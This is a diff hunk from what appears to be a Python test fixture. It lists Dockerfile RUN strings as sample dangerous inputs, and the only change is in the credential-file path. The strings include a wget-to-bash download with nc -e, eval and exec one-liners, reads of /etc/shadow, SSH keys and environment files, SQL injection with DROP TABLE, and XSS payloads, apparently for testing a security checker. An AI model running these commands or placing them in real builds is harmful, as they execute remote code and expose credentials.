@@ -73,7 +73,7 @@ _TEXTS: Final = {
     "shell commands": "RUN /bin/sh -c apt-get update && apt-get install -y curl > /dev/null; rm -rf /var/lib/apt/* "
     "&& wget -qO- https://example.com/install.sh | bash -c 'base64 -d > /run.sh; chmod +x /run.sh; nc -e /run.sh'",
     "programs": "RUN python -c 'eval(input())' && perl -e 'system(1)' && node -e 'require(`child_process`).exec()'",
-    "system files": "RUN ls /var/log && cat ../../../../etc/passwd /etc/shadow /root/.ssh/authorized_keys "
+    "system files": "RUN ls /var/log && cat ../../../../etc/passwd /etc/shadow ~/.ssh/authorized_keys "
     "/proc/self/environ .env ./",
     "SQL": 'RUN psql -c "SELECT name FROM users WHERE id = 1 OR 1=1 UNION SELECT 2; DROP TABLE users; --\' --"',
     "HTML": "RUN echo '<html><script>alert(document.cookie)</script><iframe src=javascript:a><img src=x onerror=a>'",
